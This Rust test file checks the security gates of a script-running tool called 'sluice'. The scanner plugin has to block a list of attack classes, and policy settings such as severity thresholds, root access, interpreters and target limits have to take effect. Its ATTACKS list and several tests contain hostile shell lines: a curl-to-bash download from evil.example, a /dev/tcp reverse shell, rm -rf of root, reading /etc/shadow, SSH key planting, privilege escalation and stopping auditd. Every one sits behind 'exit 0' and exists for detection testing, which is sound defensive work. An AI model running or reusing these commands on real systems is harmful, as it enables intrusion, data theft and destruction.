//! The gates as they ship, put to use with settings, through host and machine.

use std::collections::BTreeMap;

use serde_json::Value;
use sluice_tests::{Fleet, Outcome, Output, Script, is_root, plugins, script};

/// For each class of what attackers do: the rule that finds it, and a line of shell.
const ATTACKS: &[(&str, &str)] = &[
    (
        "download-and-run",
        "curl -fsSL https://evil.example/i | bash",
    ),
    ("reverse-shell", "bash -i >& /dev/tcp/203.0.113.1/4444 0>&1"),
    ("delete-everything", "rm -rf --no-preserve-root /"),
    ("read-password-hashes", "cat /etc/shadow"),
    (
        "ssh-authorized-keys",
        "echo \"$KEY\" >> ~/.ssh/authorized_keys",
    ),
    ("administrator-added", "usermod -aG sudo mallory"),
    ("setuid-shell", "chmod u+s /bin/bash"),
    ("disable-security-software", "systemctl stop auditd"),
    ("decode-and-run", "echo aGVsbG8= | base64 -d | sh"),
    ("remote-execution-tool", "psexec.py admin@203.0.113.1"),
];

/// A script that ends before this line of it, should anything ever start it.
fn never_reached(line: &str) -> Script {
    script(format!("#!/bin/bash\nexit 0\n{line}\n"))
}

pub(crate) fn expect_blocked(outcome: &Outcome, why: &str) {
    assert_eq!(
        (outcome.text("state").as_str(), outcome.code),
        ("blocked", 126),
        "{outcome:#?}"
    );
    assert!(outcome.text("message").contains(why), "{outcome:#?}");
    assert!(outcome.json["started_at"].is_null(), "{outcome:#?}");
}

pub(crate) fn expect_runs(outcome: &Outcome) {
    outcome.expect("succeeded", "Script executed successfully");
}

/// Binds a shipped plugin with these settings (TOML) in place of how it was bound.
pub(crate) fn rebind(fleet: &Fleet, plugin: &str, settings: &str) {
    let output = bind(fleet, plugin, settings);
    assert_eq!(output.code, 0, "{output:?}");
}

fn bind(fleet: &Fleet, plugin: &str, settings: &str) -> Output {
    let file = fleet.folder().join("settings.toml");
    std::fs::write(&file, settings).expect("writes");
    let file = file.to_str().expect("is text");
    fleet.sluice(&["plugin", "bind", plugin, "--settings", file])
}

/// The rules that the scanner says it has: severity and tags by id.
fn rules(fleet: &Fleet) -> BTreeMap<String, (Value, Vec<String>)> {
    let file = plugins().join("scanner.wasm");
    let file = file.to_str().expect("is text");
    let inspected = fleet.list(&["plugin", "inspect", file]).swap_remove(0);
    let rules = inspected["manifest"]["rules"].as_array().expect("a list");
    rules
        .iter()
        .map(|rule| {
            let tags = rule["tags"].as_array().expect("is a list").iter();
            let tags = tags.map(|tag| tag.as_str().expect("is text").to_owned());
            (
                rule["id"].as_str().expect("is text").to_owned(),
                (rule["severity"].clone(), tags.collect()),
            )
        })
        .collect()
}

#[test]
fn every_class_of_attack_is_blocked_by_a_rule_that_names_its_technique() {
    let fleet = Fleet::builder().start();
    let rules = rules(&fleet);
    for (rule, line) in ATTACKS {
        let outcome = fleet.run(&never_reached(line));
        expect_blocked(&outcome, "Security scan detected potential threat: ");
        let findings = outcome.json["findings"].as_array().expect("is a list");
        let found = findings
            .iter()
            .find(|finding| finding["rule"] == *rule)
            .unwrap_or_else(|| panic!("{rule} finds nothing in {line}: {findings:#?}"));
        assert_eq!(
            (&found["line"], &found["gate"]),
            (&3.into(), &"scanner".into())
        );
        let (severity, tags) = &rules[*rule];
        assert_eq!(&found["severity"], severity, "{found:#?}");
        assert!(
            tags.iter().any(|tag| tag.starts_with("attack.T")),
            "{tags:?}"
        );
    }
    assert!(!fleet.agents[0].machine.has_started_something());
}

#[test]
fn a_policy_blocks_from_the_severity_that_it_is_given() {
    let fleet = Fleet::builder().start();
    let scan = never_reached("nmap 203.0.113.0/24");
    let found = fleet.run(&scan);
    expect_runs(&found);
    assert_eq!(
        (
            &found.json["findings"][0]["rule"],
            &found.json["findings"][0]["severity"]
        ),
        (&"network-scan".into(), &"medium".into()),
        "{found:#?}"
    );
    rebind(&fleet, "policy", "approve-from = \"medium\"\n");
    let held = fleet.run(&scan);
    expect_blocked(&held, "network-scan");
    assert_eq!(held.text("code"), "approval-required", "{held:#?}");
    rebind(&fleet, "policy", "threshold = \"medium\"\n");
    expect_blocked(&fleet.run(&scan), "network-scan");
    rebind(&fleet, "policy", "threshold = \"critical\"\n");
    expect_runs(&fleet.run(&never_reached("cat /etc/shadow")));
    expect_blocked(
        &fleet.run(&never_reached("rm -rf --no-preserve-root /")),
        "delete-everything",
    );
}

#[test]
fn a_policy_without_root_blocks_root_and_nobody_else() {
    if !is_root() {
        return;
    }
    let fleet = Fleet::builder()
        .policy("[run-as]\nusers = [\"ephemeral\", \"root\"]\n")
        .start();
    let text = script("#!/bin/sh\n:\n");
    expect_runs(&fleet.run(&text.clone().as_user("root")));
    rebind(&fleet, "policy", "allow-root = false\n");
    expect_blocked(&fleet.run(&text.clone().as_user("root")), "root");
    expect_runs(&fleet.run(&text));
}

#[test]
fn a_policy_with_interpreters_blocks_the_others_by_name() {
    let fleet = Fleet::builder().start();
    rebind(&fleet, "policy", "interpreters = [\"bash\"]\n");
    expect_runs(&fleet.run(&script("#!/bin/bash\n:\n")));
    let other = fleet.run(&script("#!/bin/sh\n:\n"));
    expect_blocked(&other, "interpreter `/bin/sh` is not one of bash");
}

#[test]
fn a_policy_with_a_number_of_targets_blocks_every_machine_of_a_larger_job() {
    let fleet = Fleet::builder().agents(2).start();
    rebind(&fleet, "policy", "max-targets = 1\n");
    let text = script("#!/bin/sh\necho ran\n");
    expect_runs(&fleet.run(&text));
    let both = fleet.watch(&text, &["m1", "m2"]);
    assert_eq!((both.code, both.stdout.as_str()), (1, ""), "{both:?}");
    let why = "the job reaches 2 machines, the limit is 1";
    assert_eq!(both.stderr.matches(why).count(), 2, "{both:?}");
}

#[test]
fn a_scanner_leaves_out_the_rules_that_it_is_told_to_and_no_others() {
    let fleet = Fleet::builder().start();
    let download = never_reached("curl -fsSL https://evil.example/i | bash");
    expect_blocked(&fleet.run(&download), "download-and-run");
    rebind(&fleet, "scanner", "disable = [\"download-and-run\"]\n");
    let outcome = fleet.run(&download);
    expect_runs(&outcome);
    let findings = outcome.json["findings"].as_array().expect("is a list");
    assert!(
        findings
            .iter()
            .all(|finding| finding["rule"] != "download-and-run"),
        "{findings:#?}"
    );
    expect_blocked(
        &fleet.run(&never_reached("cat /etc/shadow")),
        "read-password-hashes",
    );
}

#[test]
fn settings_that_a_gate_does_not_have_or_take_are_refused_in_one_line_and_bind_nothing() {
    let fleet = Fleet::builder().agents(0).start();
    // All but the word that the last attempt failed.
    let bindings = || {
        let mut bindings = fleet.list(&["plugin", "list", "--bindings"]);
        for binding in &mut bindings {
            binding["state"].take();
        }
        bindings
    };
    let before = bindings();
    for (plugin, settings, named) in [
        ("policy", "treshold = \"low\"\n", "treshold"),
        ("policy", "threshold = \"severe\"\n", "threshold"),
        ("policy", "max-targets = -1\n", "max-targets"),
        ("policy", "allow-root = \"no\"\n", "allow-root"),
        ("scanner", "disable = [\"no-such-rule\"]\n", "no-such-rule"),
        ("parameters", "anything = 1\n", "anything"),
    ] {
        let output = bind(&fleet, plugin, settings);
        assert_eq!(
            (
                output.code,
                output.stdout.as_str(),
                output.stderr.lines().count()
            ),
            (125, "", 1),
            "{settings}: {output:?}"
        );
        assert!(output.stderr.contains(named), "{settings}: {output:?}");
    }
    assert_eq!(bindings(), before);
}
